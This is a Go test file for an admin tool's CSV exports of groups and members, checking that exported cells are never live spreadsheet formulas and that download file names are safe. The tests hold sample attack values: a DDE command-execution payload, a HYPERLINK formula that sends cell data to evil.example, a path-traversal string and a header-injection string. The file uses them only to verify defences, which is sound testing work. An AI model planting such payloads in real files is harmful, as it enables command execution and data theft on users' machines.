package handlers_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"tallyfy-admin/handlers/directory"
	"tallyfy-admin/tallyfy/sandbox"
)

// newGroup makes a group in Tallyfy itself.
func (s *site) newGroup(name, description string, members ...int) sandbox.Group {
	s.t.Helper()
	body, err := json.Marshal(map[string]any{"name": name, "description": description, "members": append([]int{}, members...)})
	require.NoError(s.t, err)
	s.elsewhere(http.MethodPost, "/groups", string(body))
	return s.group(name)
}

// renaming changes what Tallyfy says on its way here.
type renaming struct {
	next     http.RoundTripper
	from, to string
}

func (r *renaming) RoundTrip(request *http.Request) (*http.Response, error) {
	answer, err := r.next.RoundTrip(request)
	if err != nil {
		return nil, err
	}
	defer answer.Body.Close()
	body, err := io.ReadAll(answer.Body)
	body = bytes.ReplaceAll(body, []byte(r.from), []byte(r.to))
	answer.Body, answer.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
	answer.Header.Del("Content-Length")
	return answer, err
}

func TestNoCellIsAFormula(t *testing.T) {
	wire := &renaming{from: `"Esi`, to: `"=cmd|' /C calc'!A0`}
	s := newSite(t, siteOptions{transport: wire})
	wire.next = s.sandbox.Transport()
	s.signIn()
	const attack = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	esi := s.member("esi.mensah").ID
	g := s.newGroup(attack, "+1\n@SUM(A1)", esi)
	for _, path := range []string{"/groups.csv", "/members.csv", "/groups/" + g.ID + "/people.csv"} {
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(s.get(path).body, "\ufeff"))).ReadAll()
		require.NoError(t, err)
		for _, cell := range slices.Concat(rows...) {
			for part := range strings.FieldsFuncSeq(cell, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
				assert.NotRegexp(t, `^\s*[=+\-@]`, part, path)
			}
		}
	}
	rows := s.get("/groups.csv?q=hyperlink").groupRows()
	require.Len(t, rows, 1)
	assert.Equal(t, []string{"'" + attack, "'+1\n'@SUM(A1)"}, rows[0][:2])
	rows = s.get("/members.csv?q=mensah").memberRows()
	require.Len(t, rows, 1)
	assert.Equal(t, `'=cmd|' /C calc'!A0 Mensah`, rows[0][0])
	assert.Equal(t, "Everyone at Aldermoor; Finance; '"+attack, rows[0][4])
}

func TestFileNamesAreSafeWhateverAGroupIsCalled(t *testing.T) {
	s := signedIn(t, siteOptions{})
	for name, want := range map[string]string{
		`Night "shift"; x=../../etc`: "night-shift-x-etc-aldermoor-logistics",
		"Line\r\nSet-Cookie: a=b":    "line-set-cookie-a-b-aldermoor-logistics",
		"ליאור":                      "aldermoor-logistics",
		"Zoë & Søn":                  "zoe-s-n-aldermoor-logistics",
		strings.Repeat("long ", 39):  strings.TrimSuffix(strings.Repeat("long-", 16), "-"),
	} {
		g := s.newGroup(strings.TrimSpace(name), "For a test.")
		p := s.get("/groups/" + g.ID + "/people.csv")
		assert.Empty(t, p.file("Kind", "Name", "Email", "Role", "Status", "Id"))
		assert.Equal(t, `attachment; filename="`+want+time.Now().Format("-2006-01-02")+`.csv"`, p.header.Get("Content-Disposition"))
		assert.NotContains(t, p.header.Values("Set-Cookie"), "a=b")
	}
}

func TestAStandardMemberMayTakeFiles(t *testing.T) {
	s := newSite(t, siteOptions{})
	anonymous := s.get("/members.csv?role=light")
	assert.Equal(t, "/signin?next="+url.QueryEscape("/members.csv?role=light"), anonymous.url)
	s.signInWith(sandbox.StandardToken)
	assert.Len(t, s.get("/members.csv").memberRows(), 60)
	assert.Len(t, s.get("/groups.csv").groupRows(), 34)
	assert.Len(t, s.get("/groups/"+s.group(everybody).ID+"/people.csv").file("Kind", "Name", "Email", "Role", "Status", "Id"), 60)
}

func TestAFileThatTakesLongSaysHowFarItIs(t *testing.T) {
	s := signedIn(t, siteOptions{sandbox: sandbox.Options{Members: 1500}, directory: directory.Options{Wait: time.Millisecond}})
	s.sandbox.Fail(sandbox.Fault{Route: usersRoute, Delay: 20 * time.Millisecond})
	g := s.group(everybody)
	for path, back := range map[string]string{"/groups/" + g.ID + "/people.csv": "/groups/" + g.ID, "/members.csv?role=light&page=2": "/members?page=2&role=light", "/groups.csv": "/groups"} {
		p := s.get(path).whole(http.StatusOK)
		assert.Equal(t, "Preparing the file", p.text("h1"), path)
		assert.Equal(t, "2", p.header.Get("Refresh"), path)
		assert.Contains(t, p.text("main [role=status]"), " so far.")
		assert.Equal(t, back, p.link("Back"))
	}
	p := s.get("/groups/" + g.ID + "/people.csv")
	for p.header.Get("Refresh") != "" {
		p = s.get(p.url)
	}
	assert.Len(t, p.file("Kind", "Name", "Email", "Role", "Status", "Id"), 1500)
	assert.Equal(t, 15, s.calls(http.MethodGet, "/users"), "each page once, however often was asked")
}

func TestAFailureIsAPageNeverHalfAFile(t *testing.T) {
	for name, fault := range map[string]sandbox.Fault{
		"members 500":  {Route: usersRoute, Status: 500},
		"members 403":  {Route: usersRoute, Status: 403},
		"second page":  {Route: usersRoute, Abort: true, AbortAfter: 400},
		"group 500":    {Route: groupRoute, Status: 500},
		"group broken": {Route: groupRoute, Abort: true, AbortAfter: 40},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := signedIn(t, siteOptions{sandbox: sandbox.Options{Members: 150}})
			g := s.group(everybody)
			s.sandbox.Fail(fault)
			p := s.get("/groups/" + g.ID + "/people.csv")
			p.whole(map[bool]int{true: http.StatusForbidden, false: http.StatusBadGateway}[fault.Status == 403])
			assert.Contains(t, p.header.Get("Content-Type"), "text/html")
			assert.Empty(t, p.header.Get("Content-Disposition"))
			assert.Contains(t, p.texts("main code"), p.header.Get("X-Request-Id"))
			s.sandbox.ClearFaults()
			assert.Len(t, s.get("/groups/"+g.ID+"/people.csv").file("Kind", "Name", "Email", "Role", "Status", "Id"), 150)
		})
	}
}
